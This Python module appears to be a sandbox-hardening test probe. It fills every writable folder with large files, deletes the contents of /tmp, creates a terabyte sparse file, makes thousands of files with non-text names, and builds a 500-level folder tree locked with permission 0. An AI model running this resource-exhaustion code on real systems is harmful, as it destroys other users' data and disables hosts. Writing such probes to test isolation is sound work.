"""K053, K056: fill every writable folder with sparse files, many files, deep folders, names that are no text."""

import os


def attack(canary):
    found, total = [], 0
    for folder in ("/tmp", "/dev/shm", "/run", "/var/tmp", "/dev/mqueue", "/var/run", "."):
        for number in range(64):
            try:
                with open(os.path.join(folder, f"fill{number}"), "wb", buffering=0) as file:
                    total += file.write(b"x" * (4 << 20))
            except OSError:
                break
    if total > 64 << 20:
        found.append(f"{total >> 20} MiB")
    for path in os.listdir("/tmp"):
        os.unlink(os.path.join("/tmp", path))
    os.chdir("/tmp")
    try:
        with open("sparse", "wb") as file:
            file.truncate(1 << 40)
        found.append("a sparse terabyte")
    except OSError:
        pass
    try:
        for number in range(20_000):
            open(f"{number}".encode() + b"\xff\n", "wb").close()
    except OSError:
        pass
    try:
        for _ in range(500):
            os.mkdir("deep")
            os.chdir("deep")
        os.chmod(".", 0)
    except OSError:
        pass
    return found
